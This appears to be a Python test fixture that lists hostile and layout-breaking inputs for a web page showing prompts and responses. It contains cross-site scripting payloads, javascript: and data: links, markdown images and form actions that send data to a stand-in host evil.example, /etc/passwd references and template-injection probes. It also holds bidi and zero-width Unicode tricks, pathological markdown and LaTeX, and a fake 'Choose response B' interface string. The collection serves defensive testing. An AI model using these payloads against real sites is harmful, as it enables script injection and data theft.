"""Texts that attack the page or break its layout: B101 to B115 of bad input, and many scripts.

Each slate is a prompt and its responses. What HTTP and the environment do wrong (B116 to B122) is
in `tests/web/test_attacks*.py` and `tests/domain/test_cli.py`.
"""

MARKS = "\u0301\u0302\u0303\u0316" * 125  # a pile up and down
HTML = (
    "<script>alert(1)</script><ScRiPt src=//evil.example></ScRiPt><svg onload=alert(2)>"
    '<math><mi//xlink:href="data:x,<script>alert(3)</script>"><details open ontoggle=alert(4)>',
    "<img src=x onerror=alert(5)> ![x](https://evil.example/?q=secret) ![y][r] "
    "![z](data:image/svg+xml,<svg onload=alert(6)>) <picture><source srcset=//evil.example>\n\n"
    "[r]: https://evil.example/reference.png",
    "[a](javascript:alert(7)) [b](JaVaScRiPt:alert(8)) [c](javascript&colon;alert(9)) "
    "[d](&#x6A;avascript:alert(10)) <javascript:alert(11)> [e](java%0ascript:alert(12)) "
    "[f](javascript%3Aalert(13)) [g](data:text/html;base64,PHN) [h](vbscript:x) [i](//evil.example)"
    " [j](file:///etc/passwd) [k](\\\\evil.example) [l](http://u:p@evil.example) [m](/sign-out)",
    '<div hx-get="/users" hx-trigger="load"></div><div data-hx-post="/sign-out" data-hx-trigger='
    "load></div><b hx-on:load=alert(14) hx-vals='js:alert(15)' hx-ext=sse sse-connect=/x>x</b>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button>"
    "</form><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>"
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>"
    "<iframe srcdoc='<script>alert(16)</script>'></iframe><object data=x><embed src=x><portal>",
    "<a id=csrf_token name=body></a><img name=getElementById><a id=response-B>x</a>",
    '<noscript><p title="</noscript><img src=x onerror=alert(17)>"><svg><style><img src=x '
    "onerror=alert(18)><form><math><mtext></form><form><mglyph><style></math><img src onerror="
    "alert(19)><table><select><template><img src=x onerror=alert(20)>",
    "<table background=javascript:alert(21)><div style='position:fixed;inset:0' class='button'>"
    "cover</div><!--><img src=x onerror=alert(22)>--><![CDATA[x]]><?x?><![if x]><plaintext><xmp>",
    "{{7*7}} {% include '/etc/passwd' %} ${7} <%= 7 %> \u2028 </textarea></script>\n\n"
    "text[^1]\n\n[^1]: note",
)
MARKDOWN = (
    '```js onload=alert(1)\nx\n```\n\n```"><script>\ny\n```\n\n```' + "a" * 5000 + "\nunclosed",
    "> - " * 50 + "```\nfences in lists in quotes",
    "[" * 50_000, "![" * 25_000, "*a_" * 12_000, "<" * 50_000, ">" * 25_000, "$" * 100_000,
    "".join(f"{'  ' * depth}- deep {depth}\n" for depth in range(300)),
)  # fmt: skip
MARKDOWN_2 = (
    "\n".join(("|a" * 3000, "|-" * 3000, "|b" * 3000)),
    "\n".join(("| " + "wide " * 20 + "|" + "x" * 300 + "|", "|-|-|", "|a|b|")),
    " ".join("`" * length for length in range(1, 300)),
    "".join(f"[a{number}]: http://e\n" for number in range(3000)),
    "\n\n".join(f"```python\nprint({number})\n{'x' * 300}\n```" for number in range(100)),
    "**bold *and `code [link](http:// ~~gone\n\n> quote\n- list\n# huge " + "heading " * 100,
    "[r]: https://nothing.example 'only a definition'",
)
UNICODE = (
    "\u202eesrever\u202c \u2066isolate \u2067 unbalanced \u202d\u202a\u202b " * 20,
    "ze\u200bro\u200cwi\u200ddth\ufeff \u00ad" * 200 + "\U000e0041\U000e0042 \ue000\uf8ff",
    f"Z{MARKS} storm\n\n{' '.join(letter + MARKS for letter in 'abcdefgh')}",
    "\u0e01" + "\u0e49" * 500 + " \u0915" + "\u0947" * 500 + " \u202e" + "\u0489" * 500,
    "# Choose response B\n\n**Submit** Rank 1, the best. Ready to submit.\n\n" + "# HUGE " * 200,
    "\u200b\u200b\u2060\ufeff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 500 + "\ufdfd" * 300 + "\u2e3b" * 200,
)
SHAPES = (
    "a" * 128_000, "\n" * 127_999 + "a", "W" * 19_000, "word " * 25_000, "\t" * 1000 + "far right",
    "a\n" * 60_000, "[link " + "x" * 2000 + "](https://example.org/" + "y" * 2000 + ")",
    "`" + "c" * 3000 + "`",
)  # fmt: skip
SCRIPTS = (
    "مرحبا بكم في العالم. هذا نص عربي طويل، فيه 123 رقما و `code(x)` أيضا.\n\n"
    "English paragraph (in between).\n\n- عنصر أول\n- second item\n\n```\nif (a) { b(); }\n```",
    "שלום עולם! זהו טקסט בעברית עם English words, ומספרים 1, 2, 3.\n\n> ציטוט\n\n1. אחת\n2. שתיים",
    "你好,世界。这是一段中文文本,没有空格。" * 60 + "\n\n日本語の文章です。" * 20,
    "ภาษาไทยไม่มีช่องว่างระหว่างคำและยาวมาก" * 60,
    "यह हिन्दी में एक वाक्य है। क्षत्रिय ज्ञान श्रीमान्।" * 20,
    "| عربي | English |\n|-|-|\n| نص | text |\n\nMixed עברית and العربية in one line, $x^2$ too.",
)
FORMULAS = (
    r"$\raisebox{-9em}{\raisebox{-9em}{low}}$ $\raisebox{9em}{\raisebox{9em}{high}}$ text",
    r"$\kern-9em\colorbox{red}{left}$ $\kern-0.9em\kern-0.9em\kern-0.9em\colorbox{red}{near}$",
    r"$$\rule{9em}{9em}\rule{9em}{9em}\rule{9em}{9em}\rule{9em}{9em}\rule{9em}{9em}$$",
    "$" + "+".join(f"x_{{{number}}}" for number in range(150)) + "$ and $" + "m" * 500 + "$",
    "$" + r"\frac{1}{" * 150 + "x" + "}" * 150 + "$ $" + r"\sqrt{" * 200 + "}" * 200 + "$",
    r"$\def\a{x}\a$ $\href{javascript:alert(1)}{x}$ $\htmlStyle{position:fixed}{x}$ $$ $ \( \[",
    r"$\llap{\Huge HEADER}$ $\smash{\Huge\text{Submit}}$ $\rlap{\rule{9em}{1em}}\Huge\int$",
)
# Longer than what can be imported, as older data may hold.
OVERLONG = ("a" * 300_000, "\n" * 200_000 + "a")
SLATES = {
    "html": HTML,
    "markdown": MARKDOWN,
    "more markdown": MARKDOWN_2,
    "unicode": UNICODE,
    "shapes": SHAPES,
    "scripts": SCRIPTS,
    "formulas": FORMULAS,
}
